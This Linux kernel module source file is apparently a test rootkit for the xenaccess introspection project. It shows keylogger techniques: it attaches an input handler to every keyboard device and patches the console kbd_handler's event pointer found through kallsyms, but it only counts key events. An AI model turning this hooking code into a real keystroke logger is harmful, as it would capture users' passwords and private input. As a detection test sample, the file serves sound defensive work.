/* Test rootkit (i): the input keylogger techniques. It registers an input
 * handler of its own (input_register_handler) that connects to every
 * device with keys, opens it and sees each event (here only counted), and
 * it patches the event function of the console keyboard's handler
 * (kbd_handler, found through kallsyms) with a pass-through. Unloading
 * undoes both. */
#include <linux/module.h>
#include <linux/input.h>
#include <linux/slab.h>
#include "rk_common.h"

typedef void (*rk_event_fn)(struct input_handle *, unsigned int, unsigned int, int);
static struct input_handler *rk_kbd;
static rk_event_fn rk_kbd_event;

static atomic_long_t rk_events;

static void rk_event(struct input_handle *handle, unsigned int type, unsigned int code,
                     int value)
{
    if (type == EV_KEY)
        atomic_long_inc(&rk_events);
}

static void rk_kbd_hook(struct input_handle *handle, unsigned int type, unsigned int code,
                        int value)
{
    if (type == EV_KEY)
        atomic_long_inc(&rk_events);
    rk_kbd_event(handle, type, code, value);
}

static int rk_connect(struct input_handler *handler, struct input_dev *dev,
                      const struct input_device_id *id)
{
    struct input_handle *handle = kzalloc(sizeof(*handle), GFP_KERNEL);
    int rc;

    if (!handle)
        return -ENOMEM;
    handle->dev = dev;
    handle->handler = handler;
    handle->name = "rk_keylog";
    rc = input_register_handle(handle);
    if (rc == 0) {
        rc = input_open_device(handle);
        if (rc == 0)
            return 0;
        input_unregister_handle(handle);
    }
    kfree(handle);
    return rc;
}

static void rk_disconnect(struct input_handle *handle)
{
    input_close_device(handle);
    input_unregister_handle(handle);
    kfree(handle);
}

static const struct input_device_id rk_ids[] = {
    { .flags = INPUT_DEVICE_ID_MATCH_EVBIT, .evbit = { BIT_MASK(EV_KEY) } },
    { },
};

static struct input_handler rk_handler = {
    .event = rk_event,
    .connect = rk_connect,
    .disconnect = rk_disconnect,
    .name = "rk_keylog",
    .id_table = rk_ids,
};

static int __init rk_input_init(void)
{
    rk_lookup_fn lookup = rk_find_lookup();
    int rc;

    if (!lookup)
        return -ENOENT;
    rk_kbd = (struct input_handler *)lookup("kbd_handler");
    if (!rk_kbd || !rk_kbd->event)
        return -ENOENT;
    rc = input_register_handler(&rk_handler);
    if (rc)
        return rc;
    pr_info("rk_input: input handler rk_keylog registered\n");
    rk_kbd_event = rk_kbd->event;
    WRITE_ONCE(rk_kbd->event, rk_kbd_hook);
    pr_info("rk_input: kbd_handler.event hooked\n");
    return 0;
}

static void __exit rk_input_exit(void)
{
    WRITE_ONCE(rk_kbd->event, rk_kbd_event);
    synchronize_rcu();
    input_unregister_handler(&rk_handler);
}
module_init(rk_input_init);
module_exit(rk_input_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: input handler keylogger");
